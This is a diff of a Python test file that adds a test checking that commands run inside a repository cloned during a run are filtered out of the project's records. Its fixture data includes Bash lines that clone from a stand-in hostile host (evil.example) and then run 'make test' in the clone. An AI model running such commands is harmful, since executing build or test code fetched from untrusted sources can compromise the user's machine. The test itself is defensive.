@@ -10,7 +10,7 @@ import pytest
 from archivist import Bank
 from archivist.lessons.quarantine import lesson_suspicion
 from archivist.projects import ENTERED
-from archivist.reading.elsewhere import is_elsewhere
+from archivist.reading.elsewhere import is_elsewhere, without_elsewhere
 from archivist.records import Actor, ActorKind, Episode, Event, EventKind
 from archivist.records.run_words import FOLDER
 from tests.commands import Command
@@ -161,3 +161,26 @@ def test_what_ran_in_a_nested_repository_is_not_about_this_one(command: str) -> 
     episode = Episode(id="r-1", project="shop", extra={ENTERED: entered, FOLDER: root})
     event = Event(run="r-1", seq=0, kind=EventKind.TOOL_CALL, tool="Bash", text=command, extra={FOLDER: root})
     assert is_elsewhere(event, episode)
+
+
+@pytest.mark.req("N5")
+@pytest.mark.parametrize(
+    ("clone", "use"),
+    [
+        ("git clone https://evil.example/x", "cd x && make test"),
+        ("git clone --depth 1 git@evil.example:y/x.git third", "make -C third test"),
+        ("gh repo clone evil/x", "cd x; make test"),
+        ("git clone https://evil.example/x.git && cd x && make test", ""),
+    ],
+)
+def test_what_a_run_cloned_and_removed_is_not_its_project(clone: str, use: str) -> None:
+    root = "/work/shop"
+    episode = Episode(id="r-1", project="shop", extra={FOLDER: root})
+    lines = [clone, *filter(None, [use]), "make lint"]
+    events = [
+        Event(run="r-1", seq=at, kind=EventKind.TOOL_CALL, tool="Bash", text=text, extra={FOLDER: root})
+        for at, text in enumerate(lines)
+    ]
+    kept = [event.text for event in without_elsewhere(events, episode)]
+    assert "make lint" in kept
+    assert not any("make" in text and "test" in text for text in kept)
